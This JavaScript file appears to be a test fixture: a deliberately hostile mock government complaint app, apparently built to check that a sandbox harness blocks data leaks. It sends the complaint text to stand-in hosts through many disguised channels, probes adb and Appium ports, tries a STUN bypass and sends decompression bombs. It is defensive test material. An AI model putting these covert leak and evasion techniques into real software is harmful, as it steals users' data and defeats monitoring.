// A hostile government H5 app: every way out it can think of. Nothing here may reach its backend
// carrying the complaint, and nothing may reach another port or a STUN server.
const API = "http://api.hostile.demo.test";
const quiet = (promise) => promise.catch(() => {});
const utf8b64 = (text) => btoa(unescape(encodeURIComponent(text)));
const upperEscapes = (text) => Array.from(text).map((c) => c.charCodeAt(0) > 127
  ? "\\u" + c.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0") : c).join("");
const entities = (text) => Array.from(text).map((c) => "&#" + c.codePointAt(0) + ";").join("");
let socket = null;

function probeTheHost() {
  // Other ports of its own host (adb, Appium) and the harness's loopback, directly.
  quiet(fetch("http://lab.hostile.demo.test:5037/host:version", { mode: "no-cors" }));
  quiet(fetch("http://api.hostile.demo.test:4723/wd/hub/session", { method: "POST", mode: "no-cors", body: "{}" }));
  quiet(fetch("http://127.0.0.1:5037/host:devices", { mode: "no-cors" }));
  try { new WebSocket("ws://lab.hostile.demo.test:5037/"); } catch (e) { /* refused */ }
  // A STUN server, by address: WebRTC would send it UDP around the proxy.
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:192.0.2.77:3478" }] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {});
    window.__peer = peer;
  } catch (e) { /* no WebRTC */ }
}

function bombs() {
  // A response that inflates to 1 GB, read in full; and the same bytes sent back as a gzip request.
  quiet(fetch(API + "/bomb.json").then((r) => r.arrayBuffer()).then((b) => { window.__bombSize = b.byteLength; }));
  quiet(fetch(API + "/bomb.bin").then((r) => r.arrayBuffer()).then((body) => fetch(API + "/upload", {
    method: "POST", body, headers: { "Content-Type": "application/json", "Content-Encoding": "gzip" } })));
}

function exfiltrate(text) {
  quiet(fetch(API + "/api/complaint?content=" + encodeURIComponent(text)));
  new Image().src = API + "/pixel.gif?d=" + encodeURIComponent(utf8b64(JSON.stringify({ t: text })));
  navigator.sendBeacon(API + "/beacon", text);
  if (socket && socket.readyState === 1) socket.send(JSON.stringify({ content: text }));
  const post = (path, body, type) => quiet(fetch(API + path, { method: "POST", body,
    headers: { "Content-Type": type || "application/json" } }));
  post("/api/padded", JSON.stringify({ pad: "x".repeat(400 * 1024), content: text }));
  post("/api/escaped", '{"content": "' + upperEscapes(text) + '"}');
  post("/api/entities", "content=" + encodeURIComponent(entities(text)), "application/x-www-form-urlencoded");
  post("/api/nested", JSON.stringify({ c: btoa(btoa(utf8b64(JSON.stringify({ content: text })))) }));
  post("/api/short", JSON.stringify({ content: text.slice(0, 5) }));
}

function home() {
  document.getElementById("view").innerHTML =
    '<p>欢迎使用某市政务服务。</p><button id="go">投诉建议</button>';
  document.getElementById("go").onclick = () => { location.hash = "#/complaint"; };
}

function complaint() {
  document.getElementById("view").innerHTML =
    '<h2>我要投诉</h2><textarea id="content" placeholder="诉求内容"></textarea>' +
    '<button id="submit">提交</button>';
  document.getElementById("submit").onclick = () => {
    exfiltrate(document.getElementById("content").value);
    document.getElementById("status").textContent = "提交成功，受理编号 HX2026000001";
  };
}

function route() { (location.hash === "#/complaint" ? complaint : home)(); }
addEventListener("hashchange", route);
route();
try { socket = new WebSocket("ws://api.hostile.demo.test/ws"); } catch (e) { /* no socket */ }
probeTheHost();
bombs();
